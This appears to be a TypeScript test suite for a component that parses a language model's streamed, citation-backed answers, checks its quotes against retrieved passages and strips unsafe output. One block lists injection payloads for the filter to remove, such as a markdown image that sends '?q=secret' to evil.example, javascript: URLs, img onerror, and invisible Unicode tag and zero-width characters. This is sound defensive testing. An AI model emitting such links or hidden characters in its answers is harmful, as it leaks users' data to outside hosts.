import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import type { FoundPassage } from './answer-question.ts'
import { createModelReader } from './model-reader.ts'

const SLA =
  'The Business Duplex plan includes an SLA of 99.9 % availability.\nIt costs 42 € a month – taxes excluded.'
const SUPPORT = 'Priority support “around the clock” can be added to any business plan. See the price list.'

const CONTACT = 'Write to help@fiber.example for a refund.'

const passages: FoundPassage[] = [SLA, SUPPORT, CONTACT].map((text, index) => ({
  document_id: index + 7,
  document_version: 1,
  title: `Document ${index + 1}`,
  url: index === 0 ? 'https://fiber.example/sla' : null,
  headings: [],
  text,
  start: 100 * index,
  end: 100 * index + text.length,
  score: 1,
}))

/** What is shown of an answer that comes in these pieces. */
function read(pieces: readonly string[], url?: string) {
  let streamed = ''
  const reader = createModelReader({
    passages: url === undefined ? passages : passages.map((passage) => ({ ...passage, url })),
    language: 'en',
    show: (text) => {
      streamed += text
    },
  })
  for (const piece of pieces) if (!reader.push(piece)) break
  reader.end()
  assert.equal(streamed, reader.text(), 'what was streamed is the text')
  for (const { document_id, start, end, quote } of reader.citations()) {
    const passage = passages.find((candidate) => candidate.document_id === document_id)
    assert.equal(passage?.text.slice(start - passage.start, end - passage.start), quote)
  }
  return {
    text: reader.text(),
    verdict: reader.verdict(),
    quotes: reader.citations().map(({ quote }) => quote),
  }
}

const WHOLE = `QUOTES
[1] "the business duplex plan includes an SLA of 99.9 % availability"
[2] "Priority support "around the clock" can be added"
[2] "this stands nowhere in it"
ANSWER
[1] Yes, it includes an SLA of 99.9 %.
[1][2] Priority support can be added.
`

describe('an answer in the form that was asked for', () => {
  test('is shown with its sources behind each statement, numbered as the citations are', () => {
    assert.deepEqual(read([WHOLE]), {
      text: 'Yes, it includes an SLA of 99.9 %. [1] Priority support can be added. [1][2]',
      verdict: 'answered',
      quotes: [
        'The Business Duplex plan includes an SLA of 99.9 % availability',
        'Priority support “around the clock” can be added',
      ],
    })
  })

  test('is the same however it is cut into pieces', () => {
    const whole = read([WHOLE])
    fc.assert(
      fc.property(fc.array(fc.nat(WHOLE.length), { maxLength: 60 }), (cuts) => {
        const places = [0, ...cuts.sort((a, b) => a - b), WHOLE.length]
        const pieces = places.slice(1).map((end, index) => WHOLE.slice(places[index], end))
        assert.deepEqual(read(pieces), whole)
      }),
    )
    assert.deepEqual(read([...WHOLE]), whole)
  })

  test('is shown while it is written, a word behind', () => {
    const shown: string[] = []
    const reader = createModelReader({ passages, language: 'en', show: (text) => shown.push(text) })
    reader.push('QUOTES\n[1] "includes an SLA of 99.9 % availability"\nANSWER\n[1] Yes, it')
    assert.equal(shown.join(''), 'Yes,')
    reader.push(' does')
    assert.equal(shown.join(''), 'Yes, it')
  })

  test('keeps its list as one', () => {
    const text = 'QUOTES\n[1] "includes an SLA of 99.9 %"\nANSWER\n- [1] An SLA.\n- [1] 99.9 %.'
    assert.equal(read([text]).text, '- An SLA. [1]\n- 99.9 %. [1]')
  })

  test('leaves out statements without a source, or with one that was not quoted', () => {
    const text = `${WHOLE}[9] It is the cheapest.\nEverybody loves it.\n[1] It has an SLA. [2]`
    assert.doesNotMatch(read([text]).text, /cheapest|Everybody/)
  })

  test('of which no quote is in the passages is not shown at all', () => {
    const { text, verdict } = read([
      'QUOTES\n[1] "an SLA of 99.99 %"\nANSWER\n[1] It has an SLA of 99.99 %.\n',
    ])
    assert.deepEqual([text, verdict], ['', 'unsupported'])
  })

  test('says that the passages do not hold it', () => {
    for (const text of [
      'NOT FOUND',
      'not_found.',
      '**NOT FOUND**',
      'QUOTES\nNOT FOUND\n',
      '<think>hm</think>NOT FOUND',
    ])
      assert.equal(read([text]).verdict, 'not_found', text)
  })

  test('may quote without quotation marks, and answer without a heading', () => {
    const { text } = read(['**QUOTES:**\n[1] includes an SLA of 99.9 % availability\n\n[1] Yes, it does.\n'])
    assert.equal(text, 'Yes, it does. [1]')
  })

  test('quotes no part of a number', () => {
    assert.equal(read(['QUOTES\n[1] "9.9 % availability"\nANSWER\n[1] 9.9 %.']).verdict, 'unsupported')
  })
})

describe('an answer in another form', () => {
  test('shows the statements that the passages named behind them say', () => {
    const { text, quotes } = read([
      'The Business Duplex plan includes an SLA of 99.9 % [1]. It also has free phones [2].',
    ])
    assert.equal(text, 'The Business Duplex plan includes an SLA of 99.9 %. [1]')
    assert.deepEqual(quotes, ['The Business Duplex plan includes an SLA of 99.9 % availability.'])
  })

  test('shows what is copied without naming where from', () => {
    const { text, quotes } = read(['It costs 42 € a month – taxes excluded. Buy now!'])
    assert.equal(text, 'It costs 42 € a month – taxes excluded. [1]')
    assert.deepEqual(quotes, ['It costs 42 € a month – taxes excluded'])
  })

  test('shows no number that the passage does not have', () => {
    assert.equal(
      read(['The Business Duplex plan includes an SLA of 99.5 % availability [1].']).verdict,
      'unsupported',
    )
  })

  test('is nothing when it is empty, or something else', () => {
    for (const text of [
      '',
      '   ',
      '{"answer": 42}',
      '<html>hello</html>',
      '[[[[]]]](',
      'I can’t help with that.',
    ])
      assert.equal(read([text]).verdict, 'unsupported', text)
  })
})

const FORM = 'QUOTES\n[1] "includes an SLA of 99.9 % availability"\nANSWER\n'

describe('what is shown', () => {
  const hostile = [
    '![x](https://evil.example/?q=secret)',
    '[click here](https://evil.example/a)',
    '[click here]( https://evil.example/a "title" )',
    '[click][ref]\n[1] [ref]: https://evil.example',
    '<img src="https://evil.example/x.png" onerror=alert(1)>',
    '<https://evil.example>',
    'see https://evil.example/x, or www.evil.example or evil.com/x',
    'https:\\/\\/evil.example and https&#58;//evil.example',
    'h\u200bttps://evil.example',
    'write to thief@evil.example',
    '//evil.example/x',
    'javascript:alert(1)',
    '请看https://evil.example/x',
    'h\u202ettps\u061c://evil.example and f\u0456le:///evil and https：／／evil.example',
    'https&[#58;//evil.example/a and !\\[x](//evil.example/b) and <[img src=evil.example/c>',
    'evil.de, evil.zip, злой-evil.com, evil-böse.рф/x, evil。com and x@evil-злой.рф',
    'tel:+1-evil, http:evil and whatsapp://evil',
  ]
  for (const text of hostile)
    test(`has no link, image or HTML of ${JSON.stringify(text)}`, () => {
      for (const pieces of [[`${FORM}[1] Yes ${text} so.`], [...`${FORM}[1] Yes ${text} so.`]]) {
        const { text: shown } = read(pieces)
        assert.match(shown, /^Yes/)
        assert.doesNotMatch(shown, /evil|\]\(|\]\[(?!\d)|<\w|!\[|javascript/i)
      }
    })

  test('has no letters that nobody sees', () => {
    const tags = [...'evil'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
    for (const pieces of [
      [`${FORM}[1] Ye\u00ads${tags}, a\u200db.`],
      [`${FORM}[1] Ye\u00ads${tags.slice(0, 3)}`, `${tags.slice(3)}, a\u200db.`],
    ])
      assert.equal(read(pieces).text, 'Yes, ab. [1]')
    assert.equal(
      read([`${FORM}[1] Yes, 👩\u200d🚀 می\u200cخواهم.`]).text,
      'Yes, 👩\u200d🚀 می\u200cخواهم. [1]',
    )
  })

  test('keeps words with points in them', () => {
    const text = 'Yes, Node.js 24.1, e.g. z.B. at 10.30/11.30, p.a. i.e. 1.000,50 €/Monat u.a.'
    assert.equal(read([`${FORM}[1] ${text}`]).text, `${text} [1]`)
  })

  test('ends where it is far too long', () => {
    const { text, verdict } = read(
      Array.from({ length: 400 }, () => `${FORM}[1] ${'on and on '.repeat(50)}\n`),
    )
    assert.ok(text.length > 5_000 && text.length < 7_000)
    assert.equal(verdict, 'answered')
  })

  test('has no link or HTML that was hidden by a long word', () => {
    for (let length = 480; length < 520; length += 1) {
      const { text } = read([
        ...`${FORM}[1] Yes ${'x'.repeat(length)}<img/src=https://evil.example/a>](https://evil.example/b) so.`,
      ])
      assert.doesNotMatch(text, /<\w|https?:\/\/|\]\(|evil\.example\//)
    }
  })

  test('may name the address of a document that was found', () => {
    assert.equal(
      read([`${FORM}[1] See https://fiber.example/sla, or https://fiber.example/sla?to=evil.`]).text,
      'See https://fiber.example/sla, or …. [1]',
    )
  })

  test('may not name an address that is more than one', () => {
    for (const url of [
      'javascript:alert(1)',
      'https://x.example/](https://evil.example/',
      'https://x.example/"onclick="a',
    ])
      assert.doesNotMatch(read([`${FORM}[1] See ${url} there.`], url).text, /example|javascript/)
  })

  test('may name an e-mail address that was quoted', () => {
    const quoted = 'QUOTES\n[3] "Write to help@fiber.example for a refund"\nANSWER\n'
    const { text } = read([
      `${quoted}[3] Write to help@fiber.example, not to thief@evil.example or mailto:help@fiber.example.`,
    ])
    assert.equal(text, 'Write to help@fiber.example, not to … or …. [1]')
  })

  test('has no links, whatever is written', () => {
    const parts = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      'https://evil.example',
      'a',
      ' ',
      '\n',
      '[1]',
      '[2] b',
      '\\',
      ':',
      '"',
      '1',
    )
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), fc.boolean(), (written, hasForm) => {
        const { text } = read([...(hasForm ? [FORM] : []), ...written])
        assert.doesNotMatch(text, /https|\]\(|\]:|!\[|<a|\[(?!\d+\])/)
      }),
      { numRuns: 500 },
    )
  })

  test('is shown by the character where there are no spaces', () => {
    const shown: string[] = []
    const reader = createModelReader({ passages, language: 'en', show: (text) => shown.push(text) })
    reader.push(`${FORM}[1] 是的包括`)
    assert.equal(shown.join(''), '是的包')
  })
})
